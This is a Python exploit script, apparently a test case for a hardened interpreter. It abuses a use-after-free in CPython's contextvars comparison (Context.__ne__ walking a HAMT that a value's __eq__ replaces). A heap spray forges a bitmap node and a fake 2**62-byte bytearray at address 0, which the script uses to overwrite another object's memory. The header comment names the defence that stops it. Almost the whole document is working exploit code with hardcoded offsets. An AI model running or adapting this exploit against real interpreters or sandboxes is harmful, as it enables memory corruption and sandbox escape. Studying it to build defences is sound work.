# family: wall (memory: contextvars.Context's != walks a HAMT a value's __eq__ replaces, gh-142829)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X82 (the twelfth round's ok_03): the same walk (_PyHamt_Eq) reached
# through Context.__ne__, a slot of its own. ctx1's first value's __eq__ runs
# ctx1.run(varA.set, 0): ctx1's HAMT is replaced and its root node (an 80-byte GC
# block) freed under the walk; a spray takes the block back as a fake bitmap node
# whose next entry is (varB, a fake PyByteArrayObject of 2**62 bytes at address 0),
# and the comparison of that value with ctx2's (a bytearray subclass: its reflected
# __eq__ first) hands the program the fake: another object's bytes are written
# through it. OFF_BITMAP (&_PyHamt_BitmapNode_Type - &PyType_Type) is the image's
# 3.11.2 (the round's measure). Plain python3: MEMORY-OVERWRITTEN. The wall: ==
# and != compare copies of both contexts (context_compare), whose HAMTs no program
# code replaces.
import sys
import asyncio
cv = sys.modules["contextvars"]          # loaded by asyncio; `import contextvars` itself is refused
W = lambda v: v.to_bytes(8, "little")
OFF_BITMAP = 597696                       # &_PyHamt_BitmapNode_Type - &PyType_Type (image's 3.11.2)
FAKEBA = W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
fake_ba = id(FAKEBA) + 32                 # a PyByteArrayObject inside the bytes' ob_sval
def idx(var):
    h = hash(var) & 0xFFFFFFFFFFFFFFFF
    return ((h & 0xFFFFFFFF) ^ (h >> 32)) & 31
keep = []
got = []
class BA(bytearray):
    def __eq__(self, o):
        got.append(o)                     # the fake bytearray, reflected first (subclass)
        return False
    __hash__ = None
class Boom:
    __slots__ = ()
    def __eq__(self, o):
        # ctx1's HAMT replaced: the old one and its 80-byte root node are freed
        ctx1.run(varA.set, 0)
        # the root's block taken back: a bitmap node whose entry 1 is (varB, fake bytearray)
        node = (W(0) + W(0) + W(1 << 40) + W(id(type) + OFF_BITMAP) + W(4) + W(0)
                + W(0) + W(0) + W(id(varB)) + W(fake_ba))[:79]
        for i in range(64):               # every free 80-byte block of the pool, the root's among them
            keep.append(bytearray(node))
        return True
while True:
    varA = cv.ContextVar("a"); varB = cv.ContextVar("b")
    if idx(varA) < idx(varB):
        break
    keep.append((varA, varB))
ctx1 = cv.Context(); ctx2 = cv.Context()
ctx1.run(varA.set, Boom()); ctx1.run(varB.set, 1)
ctx2.run(varA.set, 0); ctx2.run(varB.set, BA(b"x"))
ctx1 != ctx2
mem = got[0]
print(type(mem).__name__, hex(len(mem)), flush=True)
target = bytearray(b"AAAAAAAA")
start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")
mem[start] = 0x42
if target[0] == 0x42:
    print("MEMORY-OVERWRITTEN", bytes(target))
